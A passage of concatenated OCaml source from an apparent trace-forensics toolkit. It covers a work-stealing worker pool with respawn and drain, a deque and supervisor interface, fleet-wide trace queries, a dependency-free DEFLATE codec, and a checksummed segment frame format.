    incr i
  done;
  if !moved > 0 then announce p;
  !first

let try_steal p w =
  let rec scan k =
    if k >= p.jobs then None
    else
      match Deque.steal p.deques.((w + k) mod p.jobs) with
      | Some _ as r ->
        Atomic.incr p.s_stolen;
        Obs.Counter.incr c_steals;
        r
      | None -> scan (k + 1)
  in
  scan 1

let read_gen p =
  Mutex.lock p.lock;
  let g = p.gen in
  Mutex.unlock p.lock;
  g

(* Sleep until the generation moves past the pre-scan snapshot [g].
   Returns [false] when the pool is stopping. *)
let park p g =
  Mutex.lock p.lock;
  let waited = ref false in
  while (not (Atomic.get p.stop)) && p.gen = g do
    if not !waited then begin
      waited := true;
      Atomic.incr p.s_parks;
      Obs.Counter.incr c_parks
    end;
    Condition.wait p.work_cv p.lock
  done;
  Mutex.unlock p.lock;
  not (Atomic.get p.stop)

(* Push a rescued/returned task where any live worker can claim it. *)
let reinject p w task =
  Mutex.lock p.shard_mu.(w);
  Queue.push task p.shards.(w);
  Mutex.unlock p.shard_mu.(w)

let worker p w epoch =
  let dq = p.deques.(w) in
  let stale () = Atomic.get p.epochs.(w) <> epoch in
  let rec loop () =
    if Atomic.get p.stop || stale () then ()
    else begin
      (* snapshot before scanning: any work announced after this point
         flips the park predicate *)
      let g = read_gen p in
      match Deque.pop dq with
      | Some task ->
        exec p w epoch task;
        loop ()
      | None -> (
        match from_injector p w epoch dq with
        | Some task ->
          exec p w epoch task;
          loop ()
        | None -> (
          match try_steal p w with
          | Some task ->
            exec p w epoch task;
            loop ()
          | None -> if park p g then loop ()))
    end
  in
  loop ();
  if stale () then begin
    (* abandoned incarnation bowing out: hand back anything it still
       owns so no claimed-but-unrun task is stranded in a dead deque *)
    let returned = ref 0 in
    let rec give_back () =
      match Deque.pop dq with
      | Some t ->
        reinject p w t;
        incr returned;
        give_back ()
      | None -> ()
    in
    give_back ();
    if !returned > 0 then announce p
  end
  else
    (* hand this domain's Obs shard (counters, histograms) to shutdown *)
    p.exports.(w) <- Some (Obs.export ())

let create ?(chunk = 4) ~jobs () =
  let jobs = max 1 jobs in
  let p =
    { jobs;
      chunk = max 1 chunk;
      deques = Array.init jobs (fun _ -> Deque.create ());
      shards = Array.init jobs (fun _ -> Queue.create ());
      shard_mu = Array.init jobs (fun _ -> Mutex.create ());
      rr = Atomic.make 0;
      stop = Atomic.make false;
      epochs = Array.init jobs (fun _ -> Atomic.make 0);
      lock = Mutex.create ();
      work_cv = Condition.create ();
      done_cv = Condition.create ();
      gen = 0;
      submitted = 0;
      finished = 0;
      writeoffs = Hashtbl.create 4;
      s_executed = Atomic.make 0;
      s_stolen = Atomic.make 0;
      s_injected = Atomic.make 0;
      s_parks = Atomic.make 0;
      s_exceptions = Atomic.make 0;
      s_respawns = Atomic.make 0;
      exports = Array.make jobs None;
      domains = [||];
      abandoned = [] }
  in
  p.domains <-
    Array.init jobs (fun w -> Domain.spawn (fun () -> worker p w 0));
  p

let jobs p = p.jobs

let epoch p w = Atomic.get p.epochs.(w)

let submit p task =
  if Atomic.get p.stop then invalid_arg "Fleet.Pool.submit: pool is shut down";
  let s = Atomic.fetch_and_add p.rr 1 mod p.jobs in
  Mutex.lock p.shard_mu.(s);
  Queue.push task p.shards.(s);
  Mutex.unlock p.shard_mu.(s);
  Atomic.incr p.s_injected;
  Mutex.lock p.lock;
  p.submitted <- p.submitted + 1;
  p.gen <- p.gen + 1;
  Condition.broadcast p.work_cv;
  Mutex.unlock p.lock

(* Abandon slot [w]'s current incarnation (presumed wedged inside a
   task) and spawn a replacement.  Single supervising caller assumed —
   concurrent respawns of the same slot are not supported.  Returns
   the replacement's epoch.  The ordering matters: the write-off entry
   lands under [lock] before the epoch bump, so by the time the ghost
   observes staleness its credit is already in the table. *)
let respawn p w =
  if Atomic.get p.stop then
    invalid_arg "Fleet.Pool.respawn: pool is shut down";
  let old_epoch = Atomic.get p.epochs.(w) in
  let old_deque = p.deques.(w) in
  let next_epoch = old_epoch + 1 in
  Mutex.lock p.lock;
  Hashtbl.replace p.writeoffs (w, old_epoch) ();
  (* the wedged task will never be waited for: count it finished now
     so [drain] does not hang on a ghost *)
  p.finished <- p.finished + 1;
  Condition.broadcast p.done_cv;
  Mutex.unlock p.lock;
  p.deques.(w) <- Deque.create ();
  Atomic.set p.epochs.(w) next_epoch;
  (* rescue queued tasks the wedged owner will never run; steals are
     safe against the ghost's own pops, and claims are exclusive *)
  let rescued = ref 0 in
  let rec rescue () =
    match Deque.steal old_deque with
    | Some t ->
      reinject p w t;
      incr rescued;
      rescue ()
    | None -> ()
  in
  rescue ();
  if !rescued > 0 then announce p;
  p.abandoned <- p.domains.(w) :: p.abandoned;
  Atomic.incr p.s_respawns;
  Obs.Counter.incr c_respawns;
  p.domains.(w) <- Domain.spawn (fun () -> worker p w next_epoch);
  announce p;
  next_epoch

let drain p =
  Mutex.lock p.lock;
  while p.finished < p.submitted do
    Condition.wait p.done_cv p.lock
  done;
  Mutex.unlock p.lock

let shutdown p =
  drain p;
  Atomic.set p.stop true;
  Mutex.lock p.lock;
  Condition.broadcast p.work_cv;
  Mutex.unlock p.lock;
  (* join live incarnations only: an abandoned domain may be wedged
     forever — it dies with the process *)
  Array.iter Domain.join p.domains;
  (* fold worker Obs shards into this domain, in worker-index order:
     the merge result is independent of how tasks were interleaved *)
  Array.iter (function Some x -> Obs.absorb x | None -> ()) p.exports

let stats p =
  { executed = Atomic.get p.s_executed;
    stolen = Atomic.get p.s_stolen;
    injected = Atomic.get p.s_injected;
    parks = Atomic.get p.s_parks;
    exceptions = Atomic.get p.s_exceptions;
    respawns = Atomic.get p.s_respawns }
