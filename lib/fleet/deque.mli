(** Chase-Lev work-stealing deque.

    Single-owner, multi-thief: exactly one domain may call {!push} and
    {!pop} (its bottom end); any domain may call {!steal} (the top
    end).  Lock-free — thieves claim entries with a CAS on the top
    index; the owner only synchronises on the last remaining entry.

    The ring grows geometrically (owner-side only), so capacity is a
    hint, not a bound. *)

type 'a t

(** [create ()] makes an empty deque.  [capacity] (default 16) is
    rounded up to a power of two. *)
val create : ?capacity:int -> unit -> 'a t

(** Owner only.  Amortised O(1). *)
val push : 'a t -> 'a -> unit

(** Owner only: newest entry first (LIFO — keeps the owner on the warm
    end while thieves drain the cold end). *)
val pop : 'a t -> 'a option

(** Any domain: oldest entry first (FIFO).  [None] when empty; retries
    internally on CAS races, so [None] really means empty at some
    linearisation point. *)
val steal : 'a t -> 'a option

(** Racy size estimate (exact when quiescent). *)
val size : 'a t -> int
