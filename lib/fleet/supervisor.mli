(** Fleet supervision: admission control, deadline watchdog, drain.

    A {!t} owns an {!Executor.t} plus the service-lifetime machinery a
    long-lived front end needs (see DESIGN.md §17):

    - a global in-flight cap — {!submit} answers {!Overloaded} past it
      instead of letting queues grow without bound;
    - a watchdog thread that fails jobs past their wall-clock deadline
      with [Error Timeout] and replaces the wedged worker domain
      ({!Executor.force_timeout} + {!Executor.respawn});
    - drain — {!begin_drain} flips refusal on ({!submit} answers
      {!Draining}), {!await_drain} blocks until everything admitted has
      been released.

    Wall-clock deadlines are the fleet's one nondeterministic path:
    they exist for sessions that genuinely wedge (infinite loop with
    no tick accounting, deadlocked guest), not as a substitute for the
    deterministic tick budget, which always fires first for runaway
    guests that still tick. *)

type t

type admission =
  | Admitted of int  (** sequence number, as {!Executor.submit} *)
  | Overloaded  (** global in-flight cap reached; caller should retry *)
  | Draining  (** shutting down; no new work accepted *)

type health = {
  h_jobs : int;
  h_inflight : int;  (** admitted and not yet released by {!next} *)
  h_draining : bool;
  h_timeouts : int;  (** jobs failed by the watchdog *)
  h_respawns : int;  (** worker domains replaced *)
  h_stats : Pool.stats;
}

(** [create ?deadline ?max_inflight ?poll ~jobs engines] builds an
    executor over [engines] and starts the watchdog.  [deadline] is
    applied to submitted jobs that carry none (omit it and deadline-less
    jobs run unsupervised); [max_inflight] (default 256) caps admitted
    jobs globally; [poll] (default 0.02s) is the watchdog scan
    period. *)
val create :
  ?deadline:float ->
  ?max_inflight:int ->
  ?poll:float ->
  ?jobs:int ->
  (string * Hth.Engine.t) list ->
  t

val executor : t -> Executor.t

val jobs : t -> int

(** Admission-controlled {!Executor.try_submit}. *)
val submit : t -> Executor.job -> admission

(** Ordered outcome release, as {!Executor.next}; additionally credits
    the in-flight window. *)
val next : t -> Executor.outcome option

(** Refuse new submissions from now on ({!submit} answers
    {!Draining}).  Idempotent. *)
val begin_drain : t -> unit

val draining : t -> bool

(** Block until the in-flight count reaches zero.  Watchdog deadlines
    guarantee progress even if a worker is wedged — provided the
    wedged jobs carry deadlines. *)
val await_drain : t -> unit

val health : t -> health

(** Drain flag on, watchdog stopped and joined, executor shut down
    (workers joined, observability shards absorbed). *)
val shutdown : t -> unit
