(** Cross-run queries over a warehouse — the fleet-forensics surface
    behind [hth_trace fleet ...].

    Everything here reads manifests and segment {e indexes} only: no
    data frame is ever decompressed, so cost scales with index size,
    not trace size.  All results are in deterministic orders (manifest
    order, then explicit sort keys), so two independently built stores
    of the same corpus answer byte-identically.

    Each call increments [hth_trace.fleet.queries]. *)

type filter = {
  q_scenario : string option;  (** exact scenario name *)
  q_rule : string option;  (** a warning with this rule fired *)
  q_severity : string option;  (** a warning with this severity fired *)
  q_resource : string option;
      (** substring of an indexed resource/name — e.g. [execve] finds
          every session whose tainted data reached an exec *)
  q_verdict : string option;  (** substring of the verdict label *)
}

val no_filter : filter

type hit = {
  h_entry : Manifest.entry;
  h_steps : int list;
      (** evidence steps: warning steps for rule/severity predicates,
          naming-flow steps for resource predicates; sorted, deduped *)
}

val query : Warehouse.view -> filter -> (hit list, Hth.Error.t) result
(** Runs satisfying {e all} given predicates, manifest order. *)

type block = { b_pid : int; b_addr : int; b_count : int; b_runs : int }
(** A hot block aggregated fleet-wide: total hits and the number of
    runs reporting it. *)

val profile : Warehouse.view -> (block list, Hth.Error.t) result
(** All blocks, hottest first (count desc, then pid, addr). *)

type drift = { d_name : string; d_value : int; d_median : int }

val diff : Warehouse.view -> run:string -> (drift list * int, Hth.Error.t) result
(** [diff view ~run] compares the run's embedded counter profile
    against the fleet median (lower median over every run, absent
    counters counting 0): the counters that differ, name order, plus
    how many counters were compared. *)
