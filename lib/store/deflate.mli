(** Raw DEFLATE (RFC 1951), self-contained — the toolchain ships no
    zlib binding, and segment compression must not grow a dependency.

    The encoder emits one fixed-Huffman block (BTYPE [01]) over a
    greedy LZ77 parse: 32 KiB window, hash-chained match search with a
    bounded chain walk, minimum match 3, maximum 258.  Everything is a
    pure function of the input bytes — no randomised heuristics — so
    compressed segments are byte-identical across runs and worker
    counts, which the store's determinism gate relies on.

    The decoder accepts stored (BTYPE [00]) and fixed-Huffman blocks;
    dynamic-Huffman blocks (BTYPE [10]) are rejected with an error —
    the store only ever reads its own output. *)

val compress : string -> string
(** [compress s] is the raw deflate stream for [s] (no zlib / gzip
    wrapper).  Deterministic. *)

val decompress : string -> (string, string) result
(** [decompress z] inflates a raw deflate stream.  Any malformation —
    truncation, bad symbol, distance past the output start — is an
    [Error] with a reason, never an exception. *)
