(* Rendering the store's own metadata (index lines, manifest entries)
   in the same flat JSONL dialect the trace emitter uses, so
   [Forensics.Jsonl.parse_line] reads it back. *)

let add_escaped buf s =
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\r' -> Buffer.add_string buf "\\r"
      | '\t' -> Buffer.add_string buf "\\t"
      | c when Char.code c < 0x20 ->
        Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s

let quote s =
  let b = Buffer.create (String.length s + 2) in
  Buffer.add_char b '"';
  add_escaped b s;
  Buffer.add_char b '"';
  Buffer.contents b
