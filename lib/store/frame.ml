let magic = "HTHSEG1\n"

type kind = Data | Index | End

type t = { f_kind : kind; f_compressed : bool; f_stored : string }

(* adler-32 (RFC 1950): sums can run 5552 bytes before 32-bit-ish
   overflow, so reduce mod 65521 once per block, not per byte. *)
let adler32 s =
  let n = String.length s in
  let a = ref 1 and b = ref 0 in
  let i = ref 0 in
  while !i < n do
    let stop = min n (!i + 5552) in
    while !i < stop do
      a := !a + Char.code (String.unsafe_get s !i);
      b := !b + !a;
      incr i
    done;
    a := !a mod 65521;
    b := !b mod 65521
  done;
  (!b lsl 16) lor !a

let kind_char = function Data -> 'D' | Index -> 'X' | End -> 'E'

let add_u32 buf v =
  Buffer.add_char buf (Char.unsafe_chr (v land 0xff));
  Buffer.add_char buf (Char.unsafe_chr ((v lsr 8) land 0xff));
  Buffer.add_char buf (Char.unsafe_chr ((v lsr 16) land 0xff));
  Buffer.add_char buf (Char.unsafe_chr ((v lsr 24) land 0xff))

let get_u32 s pos =
  Char.code s.[pos]
  lor (Char.code s.[pos + 1] lsl 8)
  lor (Char.code s.[pos + 2] lsl 16)
  lor (Char.code s.[pos + 3] lsl 24)

let add_raw buf ~kind ~compressed stored =
  Buffer.add_char buf (kind_char kind);
  Buffer.add_char buf (if compressed then '\001' else '\000');
  add_u32 buf (String.length stored);
  add_u32 buf (adler32 stored);
  Buffer.add_string buf stored

let add buf ~kind payload =
  let z = Deflate.compress payload in
  if String.length z < String.length payload then
    add_raw buf ~kind ~compressed:true z
  else add_raw buf ~kind ~compressed:false payload

let read s ~pos =
  let n = String.length s in
  if pos + 10 > n then Error "truncated frame header"
  else
    match s.[pos] with
    | ('D' | 'X' | 'E') as k ->
      let kind = match k with 'D' -> Data | 'X' -> Index | _ -> End in
      let flags = Char.code s.[pos + 1] in
      if flags land lnot 1 <> 0 then
        Error (Printf.sprintf "unknown frame flags 0x%02x" flags)
      else begin
        let len = get_u32 s (pos + 2) in
        let sum = get_u32 s (pos + 6) in
        if len < 0 || pos + 10 + len > n then Error "truncated frame payload"
        else
          let stored = String.sub s (pos + 10) len in
          if adler32 stored <> sum then Error "frame checksum mismatch"
          else
            Ok
              ( { f_kind = kind; f_compressed = flags land 1 = 1;
                  f_stored = stored },
                pos + 10 + len )
      end
    | c -> Error (Printf.sprintf "bad frame kind byte 0x%02x" (Char.code c))

let payload f =
  if f.f_compressed then Deflate.decompress f.f_stored else Ok f.f_stored
