(* Raw DEFLATE (RFC 1951) with fixed Huffman codes only.  See the mli
   for the design constraints (no dependencies, deterministic output).

   Bit order: the stream is LSB-first within each byte; Huffman codes
   are packed starting from their most significant bit, so code words
   are bit-reversed before entering the LSB-first writer. *)

let rev_bits v n =
  let r = ref 0 in
  for i = 0 to n - 1 do
    r := (!r lsl 1) lor ((v lsr i) land 1)
  done;
  !r

(* ------------------------------------------------------------------ *)
(* Fixed code tables (RFC 1951 §3.2.6)                                 *)

(* Literal/length alphabet, 288 symbols.  [lit_code] is pre-reversed
   for the LSB-first writer. *)
let lit_len =
  Array.init 288 (fun s ->
      if s < 144 then 8 else if s < 256 then 9 else if s < 280 then 7 else 8)

let lit_code =
  Array.init 288 (fun s ->
      let c =
        if s < 144 then 0x30 + s
        else if s < 256 then 0x190 + (s - 144)
        else if s < 280 then s - 256
        else 0xc0 + (s - 280)
      in
      rev_bits c lit_len.(s))

(* Length symbols 257..285: (base length, extra bits). *)
let len_base =
  [| 3; 4; 5; 6; 7; 8; 9; 10; 11; 13; 15; 17; 19; 23; 27; 31; 35; 43; 51;
     59; 67; 83; 99; 115; 131; 163; 195; 227; 258 |]

let len_extra =
  [| 0; 0; 0; 0; 0; 0; 0; 0; 1; 1; 1; 1; 2; 2; 2; 2; 3; 3; 3; 3; 4; 4; 4;
     4; 5; 5; 5; 5; 0 |]

(* Distance symbols 0..29: (base distance, extra bits). *)
let dist_base =
  [| 1; 2; 3; 4; 5; 7; 9; 13; 17; 25; 33; 49; 65; 97; 129; 193; 257; 385;
     513; 769; 1025; 1537; 2049; 3073; 4097; 6145; 8193; 12289; 16385;
     24577 |]

let dist_extra =
  [| 0; 0; 0; 0; 1; 1; 2; 2; 3; 3; 4; 4; 5; 5; 6; 6; 7; 7; 8; 8; 9; 9; 10;
     10; 11; 11; 12; 12; 13; 13 |]

(* length -> symbol lookup, filled in increasing symbol order so the
   dedicated symbol 285 overwrites 284's formula range at length 258. *)
let len_sym = Array.make 259 0

let () =
  for i = 0 to 28 do
    let lo = len_base.(i) in
    let hi = min 258 (lo + (1 lsl len_extra.(i)) - 1) in
    for l = lo to hi do
      len_sym.(l) <- 257 + i
    done
  done

let dist_sym d =
  let c = ref 29 in
  while dist_base.(!c) > d do
    decr c
  done;
  !c

(* ------------------------------------------------------------------ *)
(* Encoder                                                             *)

type bw = { mutable acc : int; mutable nbits : int; out : Buffer.t }

let put bw v n =
  bw.acc <- bw.acc lor (v lsl bw.nbits);
  bw.nbits <- bw.nbits + n;
  while bw.nbits >= 8 do
    Buffer.add_char bw.out (Char.unsafe_chr (bw.acc land 0xff));
    bw.acc <- bw.acc lsr 8;
    bw.nbits <- bw.nbits - 8
  done

let win_size = 32768
let min_match = 3
let max_match = 258
let hash_size = 1 lsl 15
let max_chain = 64

let compress s =
  let n = String.length s in
  let out = Buffer.create ((n / 3) + 64) in
  let bw = { acc = 0; nbits = 0; out } in
  put bw 1 1 (* BFINAL *);
  put bw 1 2 (* BTYPE = 01, fixed Huffman *);
  let emit_lit c =
    let sym = Char.code c in
    put bw lit_code.(sym) lit_len.(sym)
  in
  let emit_match len dist =
    let sym = len_sym.(len) in
    put bw lit_code.(sym) lit_len.(sym);
    let eb = len_extra.(sym - 257) in
    if eb > 0 then put bw (len - len_base.(sym - 257)) eb;
    let dc = dist_sym dist in
    put bw (rev_bits dc 5) 5;
    let deb = dist_extra.(dc) in
    if deb > 0 then put bw (dist - dist_base.(dc)) deb
  in
  if n >= min_match then begin
    let head = Array.make hash_size (-1) in
    let prev = Array.make n (-1) in
    let hash i =
      (Char.code (String.unsafe_get s i) lsl 10)
      lxor (Char.code (String.unsafe_get s (i + 1)) lsl 5)
      lxor Char.code (String.unsafe_get s (i + 2))
      land (hash_size - 1)
    in
    let insert i =
      let h = hash i in
      prev.(i) <- head.(h);
      head.(h) <- i
    in
    (* last position where a 3-byte hash still fits *)
    let last_hash = n - min_match in
    let i = ref 0 in
    while !i < n do
      if !i > last_hash then begin
        emit_lit (String.unsafe_get s !i);
        incr i
      end
      else begin
        let limit = min max_match (n - !i) in
        let best_len = ref 0 and best_dist = ref 0 in
        let cand = ref head.(hash !i) in
        let chain = ref max_chain in
        while !cand >= 0 && !i - !cand <= win_size && !chain > 0 do
          let l = ref 0 in
          while
            !l < limit
            && String.unsafe_get s (!cand + !l)
               = String.unsafe_get s (!i + !l)
          do
            incr l
          done;
          if !l > !best_len then begin
            best_len := !l;
            best_dist := !i - !cand
          end;
          cand := prev.(!cand);
          decr chain
        done;
        if !best_len >= min_match then begin
          emit_match !best_len !best_dist;
          let stop = min (!i + !best_len) (last_hash + 1) in
          let k = ref !i in
          while !k < stop do
            insert !k;
            incr k
          done;
          i := !i + !best_len
        end
        else begin
          emit_lit (String.unsafe_get s !i);
          insert !i;
          incr i
        end
      end
    done
  end
  else String.iter emit_lit s;
  put bw lit_code.(256) lit_len.(256) (* end of block *);
  if bw.nbits > 0 then Buffer.add_char out (Char.unsafe_chr (bw.acc land 0xff));
  Buffer.contents out

(* ------------------------------------------------------------------ *)
(* Decoder                                                             *)

exception Bad of string

type br = {
  src : string;
  mutable pos : int;
  mutable racc : int;
  mutable rbits : int;
}

let fill br n =
  while br.rbits < n do
    if br.pos >= String.length br.src then raise (Bad "truncated stream");
    br.racc <- br.racc lor (Char.code (String.unsafe_get br.src br.pos) lsl br.rbits);
    br.pos <- br.pos + 1;
    br.rbits <- br.rbits + 8
  done

let bits br n =
  fill br n;
  let v = br.racc land ((1 lsl n) - 1) in
  br.racc <- br.racc lsr n;
  br.rbits <- br.rbits - n;
  v

(* Accumulate one more MSB-first code bit. *)
let code_bit br code = (code lsl 1) lor bits br 1

(* Fixed literal/length decode by canonical code ranges: 7-bit codes
   0..23 are 256..279; 8-bit 48..191 are 0..143 and 192..199 are
   280..287; 9-bit 400..511 are 144..255. *)
let fixed_lit br =
  let v = ref 0 in
  for _ = 1 to 7 do
    v := code_bit br !v
  done;
  if !v <= 23 then 256 + !v
  else begin
    v := code_bit br !v;
    if !v >= 48 && !v <= 191 then !v - 48
    else if !v >= 192 && !v <= 199 then 280 + (!v - 192)
    else begin
      v := code_bit br !v;
      if !v >= 400 && !v <= 511 then 144 + (!v - 400)
      else raise (Bad "bad literal/length code")
    end
  end

let fixed_dist br =
  let v = ref 0 in
  for _ = 1 to 5 do
    v := code_bit br !v
  done;
  if !v > 29 then raise (Bad "bad distance code");
  !v

let decompress z =
  let br = { src = z; pos = 0; racc = 0; rbits = 0 } in
  let out = Buffer.create (String.length z * 4) in
  try
    let final = ref false in
    while not !final do
      final := bits br 1 = 1;
      match bits br 2 with
      | 0 ->
        (* stored: skip to byte boundary, LEN/NLEN, raw copy *)
        br.racc <- 0;
        br.rbits <- 0;
        if br.pos + 4 > String.length z then
          raise (Bad "truncated stored header");
        let len = Char.code z.[br.pos] lor (Char.code z.[br.pos + 1] lsl 8) in
        let nlen =
          Char.code z.[br.pos + 2] lor (Char.code z.[br.pos + 3] lsl 8)
        in
        if len lxor 0xffff <> nlen then raise (Bad "stored length mismatch");
        br.pos <- br.pos + 4;
        if br.pos + len > String.length z then
          raise (Bad "truncated stored block");
        Buffer.add_substring out z br.pos len;
        br.pos <- br.pos + len
      | 1 ->
        let stop = ref false in
        while not !stop do
          let sym = fixed_lit br in
          if sym < 256 then Buffer.add_char out (Char.unsafe_chr sym)
          else if sym = 256 then stop := true
          else if sym > 285 then raise (Bad "bad length symbol")
          else begin
            let i = sym - 257 in
            let len =
              len_base.(i)
              + if len_extra.(i) > 0 then bits br len_extra.(i) else 0
            in
            let d = fixed_dist br in
            let dist =
              dist_base.(d)
              + if dist_extra.(d) > 0 then bits br dist_extra.(d) else 0
            in
            let here = Buffer.length out in
            if dist > here then raise (Bad "distance past output start");
            (* byte-wise copy: overlapped matches replicate correctly *)
            for k = 0 to len - 1 do
              Buffer.add_char out (Buffer.nth out (here - dist + k))
            done
          end
        done
      | 2 -> raise (Bad "dynamic Huffman blocks unsupported")
      | _ -> raise (Bad "invalid block type")
    done;
    Ok (Buffer.contents out)
  with Bad reason -> Error reason
