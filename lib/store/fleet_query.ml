let c_fleet_queries = Obs.Counter.make "hth_trace.fleet.queries"

type filter = {
  q_scenario : string option;
  q_rule : string option;
  q_severity : string option;
  q_resource : string option;
  q_verdict : string option;
}

let no_filter =
  { q_scenario = None; q_rule = None; q_severity = None; q_resource = None;
    q_verdict = None }

type hit = { h_entry : Manifest.entry; h_steps : int list }

let contains ~needle hay =
  let nl = String.length needle and hl = String.length hay in
  if nl = 0 then true
  else begin
    let rec go i =
      i + nl <= hl && (String.sub hay i nl = needle || go (i + 1))
    in
    go 0
  end

let sort_uniq_steps steps = List.sort_uniq compare steps

(* Fold [f] over the manifest, short-circuiting on the first unreadable
   segment: a corrupt store must fail the query loudly, not shrink the
   answer. *)
let rec map_entries f = function
  | [] -> Ok []
  | e :: tl -> (
    match f e with
    | Error _ as err -> err
    | Ok y -> Result.map (fun tl -> y :: tl) (map_entries f tl))

let needs_index q =
  q.q_rule <> None || q.q_severity <> None || q.q_resource <> None

let query view q =
  Obs.Counter.incr c_fleet_queries;
  let match_meta (e : Manifest.entry) =
    (match q.q_scenario with Some s -> e.e_scenario = s | None -> true)
    && match q.q_verdict with
       | Some v -> contains ~needle:v e.e_verdict
       | None -> true
  in
  let candidates = List.filter match_meta view.Warehouse.v_entries in
  if not (needs_index q) then
    Ok (List.map (fun e -> { h_entry = e; h_steps = [] }) candidates)
  else
    Result.map (List.filter_map Fun.id)
    @@ map_entries
         (fun (e : Manifest.entry) ->
           match Warehouse.read_index view e with
           | Error _ as err -> err
           | Ok ix ->
             let warn_steps pred =
               List.filter_map
                 (fun (w : Segment.warning) ->
                   if pred w then Some w.w_step else None)
                 ix.Segment.ix_warnings
             in
             let rule_steps =
               Option.map
                 (fun r -> warn_steps (fun w -> w.Segment.w_rule = r))
                 q.q_rule
             in
             let sev_steps =
               Option.map
                 (fun s -> warn_steps (fun w -> w.Segment.w_severity = s))
                 q.q_severity
             in
             let name_steps =
               Option.map
                 (fun needle ->
                   List.concat_map
                     (fun (name, steps) ->
                       if contains ~needle name then steps else [])
                     ix.Segment.ix_names)
                 q.q_resource
             in
             (* every given predicate must have evidence *)
             let dead = function Some [] -> true | _ -> false in
             if dead rule_steps || dead sev_steps || dead name_steps then
               Ok None
             else
               let steps =
                 List.concat_map
                   (function Some l -> l | None -> [])
                   [ rule_steps; sev_steps; name_steps ]
               in
               Ok (Some { h_entry = e; h_steps = sort_uniq_steps steps }))
         candidates

type block = { b_pid : int; b_addr : int; b_count : int; b_runs : int }

let profile view =
  Obs.Counter.incr c_fleet_queries;
  let acc : (int * int, int ref * int ref) Hashtbl.t = Hashtbl.create 64 in
  match
    map_entries
      (fun e ->
        match Warehouse.read_index view e with
        | Error _ as err -> err
        | Ok ix ->
          List.iter
            (fun (pid, addr, count) ->
              match Hashtbl.find_opt acc (pid, addr) with
              | Some (total, runs) ->
                total := !total + count;
                incr runs
              | None -> Hashtbl.add acc (pid, addr) (ref count, ref 1))
            ix.Segment.ix_blocks;
          Ok ())
      view.Warehouse.v_entries
  with
  | Error _ as err -> err
  | Ok _ ->
    Hashtbl.fold
      (fun (b_pid, b_addr) (total, runs) l ->
        { b_pid; b_addr; b_count = !total; b_runs = !runs } :: l)
      acc []
    |> List.sort (fun a b ->
           match compare b.b_count a.b_count with
           | 0 -> compare (a.b_pid, a.b_addr) (b.b_pid, b.b_addr)
           | c -> c)
    |> Result.ok

type drift = { d_name : string; d_value : int; d_median : int }

let diff view ~run =
  Obs.Counter.incr c_fleet_queries;
  match Warehouse.find view run with
  | None ->
    Error
      (Hth.Error.Load_failure
         { path = view.Warehouse.v_dir; reason = "no such run: " ^ run })
  | Some target -> (
    match
      map_entries
        (fun e ->
          Result.map
            (fun (ix : Segment.index) -> (e, ix.ix_counters))
            (Warehouse.read_index view e))
        view.Warehouse.v_entries
    with
    | Error _ as err -> err
    | Ok per_run ->
      let mine =
        match
          List.find_opt
            (fun ((e : Manifest.entry), _) -> e.e_run = target.e_run)
            per_run
        with
        | Some (_, counters) -> counters
        | None -> []
      in
      let names =
        List.concat_map (fun (_, cs) -> List.map fst cs) per_run
        |> List.sort_uniq String.compare
      in
      let fleet = List.map snd per_run in
      let value counters name =
        match List.assoc_opt name counters with Some v -> v | None -> 0
      in
      (* lower median: deterministic for even run counts *)
      let median name =
        let vs = List.sort compare (List.map (fun cs -> value cs name) fleet) in
        List.nth vs ((List.length vs - 1) / 2)
      in
      let drifts =
        List.filter_map
          (fun name ->
            let v = value mine name and m = median name in
            if v = m then None
            else Some { d_name = name; d_value = v; d_median = m })
          names
      in
      Ok (drifts, List.length names))
