let c_segments_written = Obs.Counter.make "store.segments.written"
let c_bytes_raw = Obs.Counter.make "store.bytes.raw"
let c_bytes_framed = Obs.Counter.make "store.bytes.framed"
let c_index_entries = Obs.Counter.make "store.index.entries"

type chunk = { c_pos : int; c_raw_off : int; c_first_step : int; c_lines : int }

type warning = { w_step : int; w_rule : string; w_severity : string }

type index = {
  ix_chunks : chunk list;
  ix_warnings : warning list;
  ix_names : (string * int list) list;
  ix_blocks : (int * int * int) list;
  ix_counters : (string * int) list;
}

let index_entries ix =
  List.length ix.ix_chunks + List.length ix.ix_warnings
  + List.fold_left (fun acc (_, steps) -> acc + List.length steps) 0 ix.ix_names
  + List.length ix.ix_blocks + List.length ix.ix_counters

type sealed = {
  s_bytes : string;
  s_steps : int;
  s_raw_bytes : int;
  s_index : index;
}

let str_field fields k =
  match List.assoc_opt k fields with
  | Some (Forensics.Jsonl.Str s) -> Some s
  | _ -> None

let int_field fields k =
  match List.assoc_opt k fields with
  | Some (Forensics.Jsonl.Int i) -> Some i
  | _ -> None

(* ------------------------------------------------------------------ *)
(* Writer                                                              *)

module Writer = struct
  type t = {
    w_buf : Buffer.t;
    w_chunk_bytes : int;
    mutable w_steps : int;
    mutable w_raw : int;
    mutable w_chunks : chunk list;  (* reversed *)
    mutable w_warnings : warning list;  (* reversed *)
    w_names : (string, int list ref) Hashtbl.t;  (* steps reversed *)
    mutable w_blocks : (int * int * int) list;  (* reversed *)
    mutable w_counters : (string * int) list;  (* reversed *)
    mutable w_sealed : bool;
  }

  let default_chunk_bytes = 64 * 1024

  let create ?(chunk_bytes = default_chunk_bytes) () =
    let w_buf = Buffer.create (chunk_bytes / 4) in
    Buffer.add_string w_buf Frame.magic;
    { w_buf; w_chunk_bytes = chunk_bytes; w_steps = 0; w_raw = 0;
      w_chunks = []; w_warnings = []; w_names = Hashtbl.create 32;
      w_blocks = []; w_counters = []; w_sealed = false }

  (* The emitter writes [{"step":N,"ev":"kind",...}] with [ev] always
     the second field and kinds never needing escapes, so the event
     kind is readable without a full parse. *)
  let ev_of_line s lo hi =
    match String.index_from_opt s lo ',' with
    | Some c
      when c + 7 <= hi
           && String.sub s (c + 1) 6 = "\"ev\":\"" -> (
      match String.index_from_opt s (c + 7) '"' with
      | Some e when e <= hi -> Some (String.sub s (c + 7) (e - (c + 7)))
      | _ -> None)
    | _ -> None

  let index_line t ev step fields =
    match ev with
    | "warning" ->
      let rule = Option.value ~default:"" (str_field fields "rule") in
      let severity = Option.value ~default:"" (str_field fields "severity") in
      t.w_warnings <-
        { w_step = step; w_rule = rule; w_severity = severity }
        :: t.w_warnings
    | "flow" ->
      let note k =
        match str_field fields k with
        | None -> ()
        | Some name ->
          let steps =
            match Hashtbl.find_opt t.w_names name with
            | Some r -> r
            | None ->
